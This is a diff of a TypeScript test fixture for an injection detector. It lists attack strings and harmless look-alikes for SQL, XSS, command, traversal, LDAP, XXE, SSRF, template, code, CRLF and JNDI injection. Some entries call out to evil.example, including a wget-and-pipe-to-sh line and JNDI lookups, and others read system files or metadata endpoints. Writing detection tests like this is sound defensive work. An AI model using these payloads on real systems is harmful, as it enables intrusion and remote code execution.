@@ -5,44 +5,190 @@ import { compileDetection, detect } from '../../lib/detect/index.ts'
 /** Three attacks of each class that stand in no list, and three harmless neighbours. */
 const CLASSES: Record<string, { attacks: string[], harmless: string[] }> = {
   sqli: {
-    attacks: ["kiwi') or (5)=(5) -- ", '-7 union distinct select null,(select group_concat(zip) from towns)', "9';waitfor time '23:59'--"],
-    harmless: ["O'Brien and D'Arcy", 'please select a plan from the list below', 'the union selected a leader; drop by any time']
+    attacks: [
+      "kiwi' or plum~all(array[pear])--",
+      "lime' and fig notnull --",
+      '1.e(ascii',
+      '9.e(version)',
+      'TRUN/**/CATE/*x*/pears',
+      'drop/*x*/pears',
+      'or \'{"kiwi":[4]}\' -> \'$.kiwi[0]\' = 4',
+      'select current_database()',
+      'select 4,5,6',
+      'create table pears(id int)',
+      "attach database 'p.db' as p",
+      "copy pears from program 'ls'",
+      "'union a",
+      '; select kiwi',
+      '&&(kiwi=0)',
+      'and 77=(',
+      'or pear!="',
+      "' or match kiwi against ('x')",
+      'concat(0x6b,0x69)',
+      '7 or @@hostname',
+      'from `pears` group by kiwi',
+      "values ('kiwi','lime')",
+      '9 or {if length((1))>0}',
+      "'7' not like '8'",
+      'id having (true or 5)',
+      "kiwi') or (5)=(5) -- ", '-7 union distinct select null,(select group_concat(zip) from towns)', "9';waitfor time '23:59'--"],
+    harmless: [
+      'src/**/test/*.ts',
+      'select all that apply',
+      "the boys' room or hall",
+      'attach the database dump',
+      'show me the tables',
+      'copy a from b',
+      'create table reservations',
+      'and 7 of 9',
+      'values (see the list)',
+      "it's 5 or 6",
+      '1.5e3',
+      "'hello'",
+      "O'Brien and D'Arcy", 'please select a plan from the list below', 'the union selected a leader; drop by any time']
   },
   xss: {
-    attacks: ['<details/open/ontoggle=confirm`9`>', 'java\tscript:alert(9)', "'-prompt(9)-'"],
-    harmless: ['JavaScript: The Good Parts', 'a < b && c > d', '<b>bold</b> and <a href="https://example.com/">a link</a>']
+    attacks: [
+      'lime.map(alert)',
+      '(confirm)(9)',
+      'prompt.call`9`',
+      '<p x-init="kiwi()">',
+      '<f o r m action=x>',
+      'vb\tscript:msgbox(9)',
+      "jQuery.globalEval('kiwi')",
+      'data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9cHJvbXB0KDkpPg==',
+      '<details/open/ontoggle=confirm`9`>', 'java\tscript:alert(9)', "'-prompt(9)-'"],
+    harmless: [
+      'map the alerts',
+      'call.apply is a method',
+      'data:image/svg+xml;base64,PHN2ZyB3aWR0aD0iOSI+PC9zdmc+',
+      'x-init is an attribute',
+      'a form of art',
+      'JavaScript: The Good Parts', 'a < b && c > d', '<b>bold</b> and <a href="https://example.com/">a link</a>']
   },
   command: {
-    attacks: ['9.9.9.9 && wget http://evil.example/p -O- | sh', 'x;n\\e\\t\\s\\t\\a\\t -an', '$(printf cat)${IFS}/etc/group'],
-    harmless: ['tom & jerry; cat and mouse', 'type | time | date', 'Use `git log` or `ls` for it']
+    attacks: [
+      'x;hostnamectl',
+      '7|docker ps',
+      '&& apt-get install kiwi',
+      'k=who;l=ami;$k$l',
+      '8;.shell ls',
+      '-oProxyCommand=kiwi',
+      '--use-askpass=kiwi',
+      '!-3!-4',
+      'ki%kiwi:~2,4%wi',
+      'c{a,ello}t',
+      'n^e^t^s^t^a^t',
+      '\\ls',
+      '$((9))',
+      'kubectl-kiwi get x; ss -lntp',
+      'openssl version -a',
+      'ansible kiwi -m ping',
+      '9.9.9.9 && wget http://evil.example/p -O- | sh', 'x;n\\e\\t\\s\\t\\a\\t -an', '$(printf cat)${IFS}/etc/group'],
+    harmless: [
+      'apple; docker whale',
+      'time; after time',
+      '-o name',
+      '!-1',
+      'c{1,2}t',
+      '2^8^2',
+      '--output',
+      'a tool like openssl',
+      'Price-list -all',
+      'set-up; top-notch',
+      'tom & jerry; cat and mouse', 'type | time | date', 'Use `git log` or `ls` for it']
   },
   traversal: {
-    attacks: ['..%5c..%5c..%5cboot.ini', '/srv/app/../../../../etc/group', '....//....//....//srv/key'],
-    harmless: ['wait... what?', 'v1..v2', '/docs/guide/index.html']
+    attacks: [
+      '..u2216..u2216..u2216kiwi',
+      '%%32%65%%32%65/%%32%65%%32%65/kiwi',
+      '/var/run/docker.sock',
+      'conf/tomcat-users.xml',
+      'kiwi.php.bak',
+      'config/database.yml',
+      '..%5c..%5c..%5cboot.ini', '/srv/app/../../../../etc/group', '....//....//....//srv/key'],
+    harmless: [
+      'kiwi.bak',
+      'u2215',
+      'the config of a database',
+      'docker.sock',
+      'wait... what?', 'v1..v2', '/docs/guide/index.html']
   },
   'file-inclusion': {
     attacks: ['php://filter/read=string.toupper/resource=a.php', 'expect://id', 'phar://up.jpg/a'],
     harmless: ['https://example.com/a.pdf', 'data:image/png;base64,iVBORw0KGgo=', 'a php script']
   },
   ldap: {
-    attacks: ['zoe)(|(mail=*', '*)(&(cn=*', 'x)(!(cn=y'],
-    harmless: ['(one) and (two)', '(&(cn=a)(ou=b))', 'f(x) * g(y)']
+    attacks: [
+      'kiwi:2.5.13.5:=plum',
+      '(password=*)',
+      '\\2a\\29\\28',
+      'kiwi)(&(password=*)',
+      'zoe)(|(mail=*', '*)(&(cn=*', 'x)(!(cn=y'],
+    harmless: [
+      '(&(ou=kiwi)(flags:1.2.840.113556.1.4.803:=2))',
+      'C:\\28\\a',
+      '2.5 (of 13)',
+      '(one) and (two)', '(&(cn=a)(ou=b))', 'f(x) * g(y)']
   },
   xml: {
     attacks: ['<!DOCTYPE q [<!ENTITY w SYSTEM "http://evil.example/z">]><q>&w;</q>', '<!DOCTYPE z SYSTEM "file:///z.dtd">', '<q xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include href="/z"/></q>'],
     harmless: ['<!DOCTYPE html><title>x</title>', '<?xml version="1.0"?><a>b</a>', '<note><![CDATA[a & b]]></note>']
   },
   ssrf: {
-    attacks: ['http://0177.0.0.1/x', 'http://[::ffff:7f00:1]/', 'gopher://10.1.1.1:25/_HELO'],
-    harmless: ['https://example.com/path?next=http://example.org/', 'http://203.0.113.9/status', 'wss://live.example.net/socket']
+    attacks: [
+      'http://456.1.2.3/',
+      'http://vault.internal/',
+      '/latest/meta-data/kiwi',
+      'http+unix://kiwi',
+      'http://0177.0.0.1/x', 'http://[::ffff:7f00:1]/', 'gopher://10.1.1.1:25/_HELO'],
+    harmless: [
+      'http://internal.example.com/',
+      'the latest metadata',
+      'unix and http',
+      'https://example.com/path?next=http://example.org/', 'http://203.0.113.9/status', 'wss://live.example.net/socket']
   },
   template: {
-    attacks: ['{{13*37}}', '{{[].__class__.__base__.__subclasses__()}}', "#{T(java.lang.System).getenv('a')}"],
-    harmless: ['Hello {{first_name}}', '${name} is here', '{% note %}']
+    attacks: [
+      '{%print(9)%}',
+      '[[9*9]]',
+      '{{ .Kiwi "x" }}',
+      '{{9|add:9}}',
+      "${kiwi('x')}",
+      '{$kiwi|system}',
+      '#parse("kiwi")',
+      '${.version}',
+      '[%9*9%]',
+      '{{13*37}}', '{{[].__class__.__base__.__subclasses__()}}', "#{T(java.lang.System).getenv('a')}"],
+    harmless: [
+      '{{ format(date) }}',
+      '{{0|1|2}}',
+      '#parse',
+      '{a|b}',
+      '[[link]]',
+      'Hello {{first_name}}', '${name} is here', '{% note %}']
   },
   code: {
-    attacks: ["require('child_process').execSync('id')", '<?php echo file_get_contents("x"); ?>', "__import__('os').popen('id')"],
-    harmless: ['the system is down', 'import duties and the process', '<?xml version="1.0" encoding="UTF-8"?>']
+    attacks: [
+      'Thread.sleep(9)',
+      'response.write(9*9)',
+      "getattr(os,'kiwi')",
+      "'.phpinfo().'",
+      '(/* x */system)(ls)',
+      '@{[kiwi 9]}',
+      'javax.naming.Kiwi',
+      'memory_limit=9M',
+      "compile('9','','exec')",
+      "open('kiwi').read()",
+      "require('child_process').execSync('id')", '<?php echo file_get_contents("x"); ?>', "__import__('os').popen('id')"],
+    harmless: [
+      'the thread sleeps',
+      'a response to write',
+      'compile (it) and exec',
+      "open('kiwi')",
+      'precision matters',
+      'engine: v8',
+      'the system is down', 'import duties and the process', '<?xml version="1.0" encoding="UTF-8"?>']
   },
   deserialization: {
     attacks: ['O:7:"Monkeys":1:{s:1:"a";i:1;}', 'rO0ABXNyAAdNb25rZXlz', '!!python/object/apply:os.getcwd []'],
@@ -53,8 +199,16 @@ const CLASSES: Record<string, { attacks: string[], harmless: string[] }> = {
     harmless: ['the constructor', 'a prototype', 'proto.example.com']
   },
   crlf: {
-    attacks: ['x\r\nSet-Cookie: z=1', 'x\r\n\r\nHTTP/1.1 200 OK\r\n\r\nhi', 'x\nGET /z HTTP/1.1\nHost: evil.example'],
-    harmless: ['two\r\nlines', 'a: b', 'GET started']
+    attacks: [
+      'kiwi嘊嘍Set-Cookie: a=b',
+      '嘊Location: //x.example',
+      'x嘊嘍X-Kiwi: a=9',
+      'x\r\nSet-Cookie: z=1', 'x\r\n\r\nHTTP/1.1 200 OK\r\n\r\nhi', 'x\nGET /z HTTP/1.1\nHost: evil.example'],
+    harmless: [
+      '嘊嗨',
+      '你好: a',
+      'kiwi: 9',
+      'two\r\nlines', 'a: b', 'GET started']
   },
   jndi: {
     attacks: ['${jndi:rmi://evil.example/z}', '${${upper:j}${lower:N}di:dns://evil.example}', '${${env:Q:-j}ndi${env:Q:-:}ldap://evil.example}'],
